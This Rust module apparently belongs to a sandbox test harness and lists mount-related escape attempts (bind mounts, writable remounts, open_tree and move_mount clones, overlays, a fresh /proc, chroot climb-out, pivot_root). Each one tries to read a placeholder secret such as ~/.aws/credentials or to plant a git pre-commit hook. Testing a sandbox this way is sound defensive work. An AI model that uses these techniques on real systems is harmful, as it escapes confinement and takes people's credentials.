//! Mounts and roots. Each attempt is in a child with mounts of its own, so that the machine's stay as they are.

use std::ffi::CStr;
use std::fs::File;
use std::os::fd::AsRawFd;

use super::links::open_at;
use super::{Attack, Evidence, Run, append, in_child, read, read_all, secret_file};
use crate::outcome::{At, Attempt, Stop};
use crate::sys::{self, Arg};

const OPEN_TREE_CLONE: i64 = 1;
const AT_RECURSIVE: i64 = 0x8000;
const MOVE_MOUNT_F_EMPTY_PATH: i64 = 4;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "mount-direct",
        says: "Mounts a file system on a folder of the workspace without namespaces of its own.",
        evidence: Evidence::Claim,
        run: Run::Do(|targets| {
            let on = targets.below("work", "mount")?;
            std::fs::create_dir(&on).at("make a folder in the workspace")?;
            let path = sys::c_path(&on).at("path")?;
            mount(Some(c"none"), &path, Some(c"tmpfs"), 0)?;
            let _ = sys::call(libc::SYS_umount2, &mut [Arg::Text(&path), Arg::Int(libc::MNT_DETACH.into())]);
            Ok("mounted".to_owned())
        }),
    },
    Attack {
        name: "mount-bind",
        says: "Binds the home folder to a folder of the workspace in a mount namespace of its own, and reads a secret there.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| {
            with_own_mounts(|| {
                let on = targets.below("work", "mount")?;
                std::fs::create_dir(&on).at("make a folder in the workspace")?;
                let home = sys::c_path(targets.below("home", "")?).at("path")?;
                mount(Some(&home), &sys::c_path(&on).at("path")?, None, libc::MS_BIND)?;
                read(on.join(".aws/credentials"))
            })
        }),
    },
    Attack {
        name: "mount-writable",
        says: "Mounts `.git` writable over itself and makes a hook.",
        evidence: Evidence::Changed,
        run: Run::Do(|targets| {
            with_own_mounts(|| {
                let git = targets.below("work", ".git")?;
                let path = sys::c_path(&git).at("path")?;
                mount(Some(&path), &path, None, libc::MS_BIND | libc::MS_REC)?;
                mount(None, &path, None, libc::MS_BIND | libc::MS_REMOUNT)?;
                append(git.join("hooks/pre-commit"))
            })
        }),
    },
    Attack {
        name: "mount-attributes",
        says: "Clears the read-only attribute of `.git` by `mount_setattr` and makes a hook.",
        evidence: Evidence::Changed,
        run: Run::Do(|targets| {
            with_own_mounts(|| {
                let git = targets.below("work", ".git")?;
                let path = sys::c_path(&git).at("path")?;
                mount(Some(&path), &path, None, libc::MS_BIND | libc::MS_REC)?;
                // struct mount_attr: attr_set, attr_clr (MOUNT_ATTR_RDONLY), propagation, userns_fd.
                let attributes = sys::words(&[0, 1, 0, 0]);
                sys::call(
                    libc::SYS_mount_setattr,
                    &mut [
                        Arg::Int(libc::AT_FDCWD.into()),
                        Arg::Text(&path),
                        Arg::Int(AT_RECURSIVE),
                        Arg::In(&attributes),
                        Arg::Int(32),
                    ],
                )
                .at("mount_setattr")?;
                append(git.join("hooks/pre-commit"))
            })
        }),
    },
    Attack {
        name: "unmount-covers",
        says: "Unmounts what covers the home folder and reads a secret under it.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| {
            let home = targets.below("home", "")?;
            in_child(|| {
                enter_own_mounts()?;
                for path in [home.clone(), home.join(".aws"), secret_file(targets)?] {
                    let path = sys::c_path(path).at("path")?;
                    let detach = Arg::Int(libc::MNT_DETACH.into());
                    let _ = sys::call(libc::SYS_umount2, &mut [Arg::Text(&path), detach]);
                }
                read(home.join(".aws/credentials"))
            })
        }),
    },
    Attack {
        name: "clone-tree",
        says: "Clones the mount of the home folder by `open_tree` and reads a secret in the copy.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| {
            with_own_mounts(|| {
                let home = sys::c_path(targets.below("home", "")?).at("path")?;
                let tree = open_tree(&home)?;
                let secret = open_at(&tree, ".aws/credentials", 0).at("open in the copy")?;
                read_all(File::from(secret))
            })
        }),
    },
    Attack {
        name: "move-tree",
        says: "Clones the root's mounts without what covers them and attaches the copy by `move_mount`.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| {
            with_own_mounts(|| {
                let tree = open_tree(c"/")?;
                let on = targets.below("work", "mount")?;
                std::fs::create_dir(&on).at("make a folder in the workspace")?;
                let path = sys::c_path(&on).at("path")?;
                sys::call(
                    libc::SYS_move_mount,
                    &mut [
                        Arg::Int(tree.as_raw_fd().into()),
                        Arg::Text(c""),
                        Arg::Int(libc::AT_FDCWD.into()),
                        Arg::Text(&path),
                        Arg::Int(MOVE_MOUNT_F_EMPTY_PATH),
                    ],
                )
                .at("move_mount")?;
                let home = targets.below("home", ".aws/credentials")?;
                read(on.join(home.strip_prefix("/").unwrap_or(&home)))
            })
        }),
    },
    Attack {
        name: "new-file-system",
        says: "Makes a file system by `fsopen`.",
        evidence: Evidence::Claim,
        run: Run::Do(|_| with_own_mounts(|| fsopen(c"tmpfs").map(|()| "made".to_owned()))),
    },
    Attack {
        name: "new-proc",
        says: "Mounts another /proc, to see processes that are hidden.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| {
            with_own_mounts(|| {
                let on = targets.below("work", "mount")?;
                std::fs::create_dir(&on).at("make a folder in the workspace")?;
                mount(Some(c"proc"), &sys::c_path(&on).at("path")?, Some(c"proc"), 0)?;
                read(on.join(targets.number("victim-pid")?.to_string()).join("environ"))
            })
        }),
    },
    Attack {
        name: "new-overlay",
        says: "Mounts an overlay whose lower layer is the home folder, and reads a secret in it.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| {
            with_own_mounts(|| {
                let on = targets.below("work", "mount")?;
                let other = targets.below("work", "other")?;
                std::fs::create_dir(&on).at("make a folder in the workspace")?;
                std::fs::create_dir(&other).at("make a folder in the workspace")?;
                let lower = targets.below("home", "")?;
                let options = format!("lowerdir={}:{}", lower.display(), other.display());
                let options = sys::c_path(options).at("options")?;
                let path = sys::c_path(&on).at("path")?;
                sys::call(
                    libc::SYS_mount,
                    &mut [
                        Arg::Text(c"overlay"),
                        Arg::Text(&path),
                        Arg::Text(c"overlay"),
                        Arg::Int(0),
                        Arg::Text(&options),
                    ],
                )
                .at("mount overlay")?;
                read(on.join(".aws/credentials"))
            })
        }),
    },
    Attack {
        name: "chroot",
        says: "Changes its root to a folder of the workspace and climbs out of it by a folder that it has open.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| {
            in_child(|| {
                // Without privilege: in a user namespace of its own.
                let _ = sys::call(libc::SYS_unshare, &mut [Arg::Int(libc::CLONE_NEWUSER.into())]);
                let jail = targets.below("work", "jail")?;
                std::fs::create_dir(&jail).at("make a folder in the workspace")?;
                let root = File::open(targets.below("work", "")?).at("open the workspace")?;
                let path = sys::c_path(&jail).at("path")?;
                sys::call(libc::SYS_chroot, &mut [Arg::Text(&path)]).at("chroot")?;
                let mut folder = std::os::fd::OwnedFd::from(root);
                for _ in 0..32 {
                    folder = open_at(&folder, "..", libc::O_DIRECTORY).at("open ..")?;
                }
                let secret = secret_file(targets)?;
                let path = secret.strip_prefix("/").unwrap_or(&secret).to_string_lossy().into_owned();
                read_all(File::from(open_at(&folder, &path, 0).at("open the secret")?))
            })
        }),
    },
    Attack {
        name: "pivot-root",
        says: "Makes a folder of the workspace its root by `pivot_root`, with the old root below it.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| {
            with_own_mounts(|| {
                let root = targets.below("work", "root")?;
                std::fs::create_dir_all(root.join("old")).at("make a folder in the workspace")?;
                let path = sys::c_path(&root).at("path")?;
                mount(Some(&path), &path, None, libc::MS_BIND)?;
                let old = sys::c_path(root.join("old")).at("path")?;
                sys::call(libc::SYS_pivot_root, &mut [Arg::Text(&path), Arg::Text(&old)]).at("pivot_root")?;
                let secret = secret_file(targets)?;
                read(std::path::Path::new("/old").join(secret.strip_prefix("/").unwrap_or(&secret)))
            })
        }),
    },
];

/// Enters mounts of its own; without privilege, in a user namespace of its own.
fn enter_own_mounts() -> Result<(), Stop> {
    let mounts = i64::from(libc::CLONE_NEWNS);
    if sys::call(libc::SYS_unshare, &mut [Arg::Int(mounts)]).is_err() {
        let both = Arg::Int(mounts | i64::from(libc::CLONE_NEWUSER));
        sys::call(libc::SYS_unshare, &mut [both]).at("unshare")?;
    }
    mount(None, c"/", None, libc::MS_REC | libc::MS_PRIVATE)
}

fn with_own_mounts(attempt: impl FnOnce() -> Attempt) -> Attempt {
    in_child(|| {
        enter_own_mounts()?;
        attempt()
    })
}

fn mount(from: Option<&CStr>, on: &CStr, kind: Option<&CStr>, flags: libc::c_ulong) -> Result<(), Stop> {
    let text = |text| match text {
        Some(text) => Arg::Text(text),
        None => Arg::Null,
    };
    let flags = Arg::Int(i64::try_from(flags).unwrap_or(0));
    sys::call(libc::SYS_mount, &mut [text(from), Arg::Text(on), text(kind), flags, Arg::Null])
        .at("mount")
        .map(drop)
}

fn open_tree(path: &CStr) -> Result<std::os::fd::OwnedFd, Stop> {
    let here = Arg::Int(libc::AT_FDCWD.into());
    let flags = Arg::Int(OPEN_TREE_CLONE | AT_RECURSIVE);
    sys::open(libc::SYS_open_tree, &mut [here, Arg::Text(path), flags]).at("open_tree")
}

fn fsopen(kind: &CStr) -> Result<(), Stop> {
    let fs = sys::open(libc::SYS_fsopen, &mut [Arg::Text(kind), Arg::Int(0)]).at("fsopen")?;
    let fd = i64::from(fs.as_raw_fd());
    // FSCONFIG_CMD_CREATE.
    sys::call(libc::SYS_fsconfig, &mut [Arg::Int(fd), Arg::Int(6), Arg::Null, Arg::Null, Arg::Int(0)])
        .at("fsconfig")?;
    sys::call(libc::SYS_fsmount, &mut [Arg::Int(fd), Arg::Int(0), Arg::Int(0)]).at("fsmount").map(drop)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn own_mounts_leave_the_parent_s_alone() {
        let before = std::fs::read_to_string("/proc/self/mounts").unwrap();
        let _ = with_own_mounts(|| {
            mount(Some(c"none"), c"/tmp", Some(c"tmpfs"), 0)?;
            Ok(String::new())
        });
        assert_eq!(std::fs::read_to_string("/proc/self/mounts").unwrap(), before);
    }
}
